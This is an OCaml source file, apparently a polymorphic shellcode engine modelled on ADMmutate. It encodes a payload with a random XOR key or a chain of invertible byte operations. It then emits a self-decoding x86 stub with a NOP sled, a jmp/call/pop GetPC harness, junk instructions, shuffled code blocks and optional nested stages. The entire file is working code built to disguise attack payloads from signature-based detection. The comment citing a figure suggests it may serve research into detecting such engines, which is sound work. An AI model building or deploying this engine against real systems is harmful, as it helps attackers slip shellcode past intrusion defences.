type family = Xor_loop | Alt_chain

type generated = {
  code : string;
  family : family;
  sled_len : int;
  decoder_len : int;
  payload_off : int;
  payload_len : int;
}

let i x = Asm.I x
let reg r = Insn.Reg r
let imm v = Insn.Imm v
let mem_of r = Insn.Mem (Insn.mem_base r)

(* ------------------------------------------------------------------ *)
(* Invertible byte transforms for the alternate decoder family. *)

type chain_op =
  | C_not
  | C_xor of int
  | C_add of int
  | C_sub of int
  | C_rol of int
  | C_ror of int
  | C_or0  (** identity noise: or w, 0 *)
  | C_and_ff  (** identity noise: and w, 0xff *)

let rol8 b n =
  let n = n land 7 in
  ((b lsl n) lor (b lsr (8 - n))) land 0xFF

let ror8 b n = rol8 b (8 - (n land 7))

let apply_op op b =
  match op with
  | C_not -> lnot b land 0xFF
  | C_xor k -> b lxor k
  | C_add k -> (b + k) land 0xFF
  | C_sub k -> (b - k) land 0xFF
  | C_rol n -> rol8 b n
  | C_ror n -> ror8 b n
  | C_or0 | C_and_ff -> b

let invert_op = function
  | C_not -> C_not
  | C_xor k -> C_xor k
  | C_add k -> C_sub k
  | C_sub k -> C_add k
  | C_rol n -> C_ror n
  | C_ror n -> C_rol n
  | C_or0 -> C_or0
  | C_and_ff -> C_and_ff

(* Encode a payload such that applying [ops] in order at decode time
   recovers it: run the inverted ops in reverse. *)
let encode_chain ops payload =
  let inv = List.rev_map invert_op ops in
  String.map
    (fun c -> Char.chr (List.fold_left (fun b op -> apply_op op b) (Char.code c) inv))
    payload

let op_insn w8 = function
  | C_not -> Insn.Not (Insn.S8bit, Insn.Reg8 w8)
  | C_xor k -> Insn.Arith (Insn.Xor, Insn.S8bit, Insn.Reg8 w8, imm (Int32.of_int k))
  | C_add k -> Insn.Arith (Insn.Add, Insn.S8bit, Insn.Reg8 w8, imm (Int32.of_int k))
  | C_sub k -> Insn.Arith (Insn.Sub, Insn.S8bit, Insn.Reg8 w8, imm (Int32.of_int k))
  | C_rol n -> Insn.Shift (Insn.Rol, Insn.S8bit, Insn.Reg8 w8, n)
  | C_ror n -> Insn.Shift (Insn.Ror, Insn.S8bit, Insn.Reg8 w8, n)
  | C_or0 -> Insn.Arith (Insn.Or, Insn.S8bit, Insn.Reg8 w8, imm 0l)
  | C_and_ff -> Insn.Arith (Insn.And, Insn.S8bit, Insn.Reg8 w8, imm 0xFFl)

let random_chain rng =
  let invertible () =
    match Rng.int rng 6 with
    | 0 -> C_not
    | 1 -> C_xor (1 + Rng.int rng 255)
    | 2 -> C_add (1 + Rng.int rng 255)
    | 3 -> C_sub (1 + Rng.int rng 255)
    | 4 -> C_rol (1 + Rng.int rng 7)
    | _ -> C_ror (1 + Rng.int rng 7)
  in
  let core = List.init (1 + Rng.int rng 3) (fun _ -> invertible ()) in
  (* sprinkle identity or/and noise, which is what gives the family its
     mov/or/and/not look *)
  List.concat_map
    (fun op ->
      if Rng.chance rng 0.4 then
        if Rng.bool rng then [ C_or0; op ] else [ op; C_and_ff ]
      else [ op ])
    core

(* ------------------------------------------------------------------ *)
(* Register selection and the different spellings of common steps. *)

let low8_of r =
  match Reg.low8 r with
  | Some w8 -> w8
  | None -> invalid_arg "Admmutate: register has no low byte"

let advance_items rng ptr =
  match Rng.int rng 4 with
  | 0 -> [ i (Insn.Inc (Insn.S32bit, reg ptr)) ]
  | 1 -> [ i (Insn.Arith (Insn.Add, Insn.S32bit, reg ptr, imm 1l)) ]
  | 2 -> [ i (Insn.Arith (Insn.Sub, Insn.S32bit, reg ptr, imm (-1l))) ]
  | _ -> [ i (Insn.Lea (ptr, Insn.mem_base_disp ptr 1l)) ]

let backedge_items rng ~out_of_order ~label ~force_long =
  if force_long || out_of_order || Rng.bool rng then
    [ i (Insn.Dec (Insn.S32bit, reg Reg.ECX)); Asm.Jcc (Insn.NE, label) ]
  else [ Asm.Loop_to label ]

(* ------------------------------------------------------------------ *)
(* Block assembly: blocks are emitted in a shuffled order, each entered
   through its label and left through an explicit jmp — out-of-order code
   sequencing, Figure 1(c) style. *)

let emit_blocks rng ~out_of_order (blocks : (string * Asm.item list) list) =
  let order = Array.init (List.length blocks) (fun k -> k) in
  if out_of_order then Rng.shuffle rng order;
  let blocks = Array.of_list blocks in
  Array.to_list order
  |> List.concat_map (fun k ->
         let name, items = blocks.(k) in
         (Asm.Label name :: items))

let generate ?family ?sled_len ?out_of_order ?(junk = 4) rng ~payload =
  let family =
    match family with
    | Some f -> f
    | None -> if Rng.chance rng 0.32 then Alt_chain else Xor_loop
  in
  let sled_len = match sled_len with Some n -> n | None -> 16 + Rng.int rng 49 in
  let out_of_order =
    match out_of_order with Some b -> b | None -> Rng.bool rng
  in
  let n = String.length payload in
  if n = 0 then invalid_arg "Admmutate.generate: empty payload";
  (* register roles: the loop counter is ECX (loop/dec-jnz), the pointer
     and the working/key register parent are distinct non-ESP/EBP regs *)
  let work_parent = Rng.pick rng [| Reg.EAX; Reg.EBX; Reg.EDX |] in
  let ptr =
    Rng.pick rng
      (Array.of_list
         (List.filter
            (fun r -> not (Reg.equal r work_parent))
            [ Reg.EAX; Reg.EBX; Reg.EDX; Reg.ESI; Reg.EDI ]))
  in
  let live = [ ptr; Reg.ECX; work_parent ] in
  let counter = Junk.const_route rng Reg.ECX (Int32.of_int n) in
  let encoded, loop_body =
    match family with
    | Xor_loop ->
        let key = 1 + Rng.int rng 255 in
        let encoded = String.map (fun c -> Char.chr (Char.code c lxor key)) payload in
        let use_key_reg = Rng.bool rng in
        let mem_xor =
          if use_key_reg then
            [
              i
                (Insn.Arith
                   (Insn.Xor, Insn.S8bit, mem_of ptr, Insn.Reg8 (low8_of work_parent)));
            ]
          else
            [ i (Insn.Arith (Insn.Xor, Insn.S8bit, mem_of ptr, imm (Int32.of_int key))) ]
        in
        let key_setup =
          if use_key_reg then Junk.const_route rng work_parent (Int32.of_int key)
          else []
        in
        (encoded, `Xor (key_setup, mem_xor))
    | Alt_chain ->
        let ops = random_chain rng in
        let encoded = encode_chain ops payload in
        (encoded, `Alt ops)
  in
  let w8 = low8_of work_parent in
  let build force_long =
    let rng = Rng.copy rng in
    let jk live = Junk.items rng ~live (Rng.int rng (junk + 1)) in
    let decode_blocks =
      match loop_body with
      | `Xor (key_setup, mem_xor) ->
          [
            ( "setup",
              jk live @ [ i (Insn.Pop_reg ptr) ] @ jk live @ counter @ jk live
              @ key_setup @ jk live @ [ Asm.Jmp "loop" ] );
            ("loop", jk live @ mem_xor @ jk live @ [ Asm.Jmp "step" ]);
            ( "step",
              jk live @ advance_items rng ptr @ jk live
              @ backedge_items rng ~out_of_order ~label:"loop" ~force_long
              @ [ Asm.Jmp "run" ] );
          ]
      | `Alt ops ->
          let chain =
            List.concat_map (fun op -> i (op_insn w8 op) :: jk live) ops
          in
          [
            ( "setup",
              jk live @ [ i (Insn.Pop_reg ptr) ] @ jk live @ counter @ jk live
              @ [ Asm.Jmp "loop" ] );
            ( "loop",
              jk live
              @ [ i (Insn.Mov (Insn.S8bit, Insn.Reg8 w8, mem_of ptr)) ]
              @ jk live @ chain @ [ Asm.Jmp "wb" ] );
            ( "wb",
              [ i (Insn.Mov (Insn.S8bit, mem_of ptr, Insn.Reg8 w8)) ]
              @ jk live @ advance_items rng ptr @ jk live
              @ backedge_items rng ~out_of_order ~label:"loop" ~force_long
              @ [ Asm.Jmp "run" ] );
          ]
    in
    (* GetPC harness: jmp to the call; the call pushes the address of the
       byte after it — the encoded payload — and "setup" pops it into the
       pointer register. *)
    let items =
      [ Asm.Jmp "getpc" ]
      @ emit_blocks rng ~out_of_order decode_blocks
      @ [ Asm.Label "run"; Asm.Jmp "payload" ]
      @ [ Asm.Label "getpc"; Asm.Call "setup"; Asm.Label "payload"; Asm.Raw encoded ]
    in
    Asm.assemble items
  in
  (* the loop-instruction back edge only reaches 128 bytes; junk-heavy
     bodies fall back to the dec/jnz spelling *)
  let decoder = try build false with Asm.Error _ -> build true in
  ignore (Rng.int64 rng);
  let sled = Nops.sled_bytes rng sled_len in
  let code = sled ^ decoder in
  {
    code;
    family;
    sled_len;
    decoder_len = String.length decoder - n;
    payload_off = String.length code - n;
    payload_len = n;
  }

let rec generate_staged ?(stages = 2) ?(junk = 4) rng ~payload =
  if stages < 1 then invalid_arg "Admmutate.generate_staged: stages >= 1";
  if stages = 1 then generate ~junk rng ~payload
  else begin
    let inner = generate_staged ~stages:(stages - 1) ~junk rng ~payload in
    generate ~junk rng ~payload:inner.code
  end
